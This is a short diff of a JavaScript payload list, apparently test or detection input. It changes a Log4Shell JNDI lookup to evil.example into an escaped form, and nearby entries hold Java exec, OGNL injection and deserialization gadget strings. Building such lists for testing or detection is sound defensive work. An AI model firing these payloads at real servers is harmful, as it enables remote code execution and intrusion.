@@ -52,7 +52,7 @@ const PAYLOADS = [
   '$_SERVER[x]',
   'phpinfo()',
   'java.lang.Runtime.getRuntime().exec("id")',
-  '${jndi:ldap://evil.example/a}',
+  '\x24{jndi:ldap://evil.example/a}',
   'rO0ABXNyABE',
   '%{(#a=@java.lang.Runtime@getRuntime())}',
   'org.apache.commons.collections.Transformer',
